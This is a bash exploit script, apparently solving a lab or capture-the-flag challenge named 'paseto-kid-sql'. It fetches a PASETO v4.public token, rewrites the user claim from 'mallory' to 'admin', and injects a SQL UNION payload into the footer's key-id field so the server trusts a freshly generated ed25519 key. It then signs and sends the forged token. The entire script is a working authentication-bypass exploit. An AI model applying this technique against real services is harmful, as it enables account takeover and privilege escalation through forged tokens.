#!/usr/bin/env bash
. "$(dirname "$0")/tools.sh"

# Pre-authentication encoding: lengths as eight bytes, little-endian.
le64() {
    local n=$1 i
    for i in 1 2 3 4 5 6 7 8; do
        printf '%02x' $((n & 255))
        n=$((n >> 8))
    done | unhex
}
piece() { le64 "$(wc -c <"$1")"; cat "$1"; }

work="$(mktemp -d)"
trap 'rm -rf "$work"' EXIT
openssl genpkey -algorithm ed25519 -out "$work/key"
public="$(openssl pkey -in "$work/key" -pubout -outform DER | tail -c 32 | hex)"
printf 'v4.public.' >"$work/header"
curl -s "$(at paseto-kid-sql token)" | part 3 | unb64 | head -c -64 | sed 's/"mallory"/"admin"/' >"$work/claims"
printf '{"kid":"%s"}' "' UNION SELECT x'$public' -- " >"$work/footer"
: >"$work/assertion"
{
    le64 4
    for part in header claims footer assertion; do piece "$work/$part"; done
} >"$work/pae"
openssl pkeyutl -sign -inkey "$work/key" -rawin -in "$work/pae" -out "$work/signature"
body="$(cat "$work/claims" "$work/signature" | b64)"
send paseto-kid-sql "v4.public.$body.$(b64 <"$work/footer")"
